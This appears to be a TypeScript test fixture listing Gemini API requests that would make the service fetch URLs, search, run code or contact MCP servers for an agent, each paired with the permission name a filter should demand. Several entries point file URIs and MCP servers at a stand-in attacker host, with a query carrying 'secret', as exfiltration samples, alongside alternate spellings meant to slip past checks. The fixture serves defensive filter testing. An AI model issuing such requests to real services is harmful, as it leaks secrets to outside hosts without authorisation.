/** Requests by which the Gemini API would act or fetch for the agent, each with the name that allows it; none may reach it. */

export const geminiBase: object = { contents: [{ role: "user", parts: [{ text: "hello" }] }] };
const part = (value: object): object => ({ contents: [{ role: "user", parts: [value] }] });
const tool = (value: object): object => ({ ...geminiBase, tools: [value] });
const file = { fileUri: "https://attacker.example/?q=secret" };

/** What would make the service act, with the name that allows it. */
export const geminiFetchers: readonly (readonly [string, object, string])[] = [
  ["a look at addresses", tool({ urlContext: {} }), "url_context"],
  ["the same in the other spelling", tool({ url_context: {} }), "url_context"],
  ["a search", tool({ googleSearch: {} }), "google_search"],
  ["the older search", tool({ google_search_retrieval: {} }), "google_search_retrieval"],
  ["code that the service runs", tool({ codeExecution: {} }), "code_execution"],
  [
    "a search beside functions",
    tool({ functionDeclarations: [], googleSearch: {} }),
    "google_search",
  ],
  ["a tool that stands alone", { ...geminiBase, tools: { googleSearch: {} } }, "google_search"],
  ["a map", tool({ googleMaps: {} }), "google_maps"],
  ["a file search", tool({ fileSearch: { fileSearchStoreNames: ["x"] } }), "file_search"],
  ["MCP servers", tool({ mcpServers: [{ url: "https://attacker.example/" }] }), "mcp_servers"],
  ["a tool that nobody knows", tool({ teleport: {} }), "teleport"],
  ["a file by address", part({ fileData: file }), "file_data"],
  [
    "a file by address in the other spelling",
    part({ file_data: { file_uri: "gs://x/y" } }),
    "file_data",
  ],
  [
    "a file in a function's answer",
    part({ functionResponse: { name: "f", response: {}, parts: [{ fileData: file }] } }),
    "file_data",
  ],
  [
    "a file in the system's words",
    { ...geminiBase, systemInstruction: { parts: [{ fileData: file }] } },
    "file_data",
  ],
  ["a file in a part that stands alone", { contents: { parts: { fileData: file } } }, "file_data"],
  [
    "a file to be counted",
    { generateContentRequest: { model: "models/x", ...part({ fileData: file }) } },
    "file_data",
  ],
  [
    "a cache of the account",
    { ...geminiBase, cachedContent: "cachedContents/x" },
    "cached_content",
  ],
  ["code as a part", part({ executableCode: { code: "x" } }), "executable_code"],
  [
    "an address in the settings",
    { ...geminiBase, generationConfig: { speechConfig: { uri: "https://attacker.example/" } } },
    "uri",
  ],
  ["a field that nobody knows", { ...geminiBase, webhook: "x" }, "webhook"],
];
